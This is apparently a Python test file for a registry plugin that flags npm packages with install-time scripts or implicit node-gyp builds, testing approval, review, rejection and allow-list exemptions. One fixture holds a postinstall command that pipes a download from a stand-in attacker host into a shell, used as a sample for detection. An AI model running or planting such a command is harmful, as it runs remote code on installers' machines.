from __future__ import annotations

from gati_private_registry.hooks import Decision

from gati_registry_plugins import install_scripts
from helpers import candidate_from_tarball, defaults, package_tgz


def review(manifest: dict, files: dict | None = None, **config: object):
    cand = candidate_from_tarball(package_tgz(manifest, files))
    return install_scripts.gati_registry_review_version(
        candidate=cand, config=defaults(install_scripts, **config))


def test_no_scripts_approves() -> None:
    vote = review({"scripts": {"test": "jest", "build": "tsc", "prepare": "tsc"}})
    assert vote.decision is Decision.APPROVE
    assert review({}).decision is Decision.APPROVE


def test_each_install_hook_is_flagged() -> None:
    vote = review({"scripts": {"preinstall": "node pre.js", "install": "node i.js",
                               "postinstall": "curl http://evil.example | sh"}})
    assert vote.decision is Decision.NEEDS_REVIEW
    assert len(vote.reasons) == 3
    assert "'postinstall' script: curl http://evil.example | sh" in vote.reasons[2]


def test_binding_gyp_without_install_script_is_node_gyp_rebuild() -> None:
    vote = review({}, {"binding.gyp": "{}"})
    assert vote.decision is Decision.NEEDS_REVIEW
    assert "node-gyp rebuild" in vote.reasons[0]
    # an explicit install script replaces the implicit one: flagged once, as that script
    vote = review({"scripts": {"install": "prebuild-install"}}, {"binding.gyp": "{}"})
    assert vote.reasons == ("runs a 'install' script: prebuild-install",)
    assert review({"gypfile": False}, {"binding.gyp": "{}"}).decision is Decision.APPROVE
    # only at the package root
    assert review({}, {"deps/x/binding.gyp": "{}"}).decision is Decision.APPROVE


def test_action_reject() -> None:
    vote = review({"scripts": {"postinstall": "node x.js"}}, action="reject")
    assert vote.decision is Decision.REJECT


def test_allow_packages_exempts() -> None:
    vote = review({"name": "@acme/native", "scripts": {"install": "node-gyp rebuild"}},
                  allow_packages=["@acme/*"])
    assert vote.decision is Decision.APPROVE
    assert "'@acme/*'" in vote.reasons[0] and "node-gyp rebuild" in vote.reasons[1]
    vote = review({"name": "@other/native", "scripts": {"install": "x"}},
                  allow_packages=["@acme/*"])
    assert vote.decision is Decision.NEEDS_REVIEW


def test_long_command_is_shortened() -> None:
    vote = review({"scripts": {"postinstall": "node -e " + "x" * 1000}})
    assert len(vote.reasons[0]) < 300 and vote.reasons[0].endswith("…")
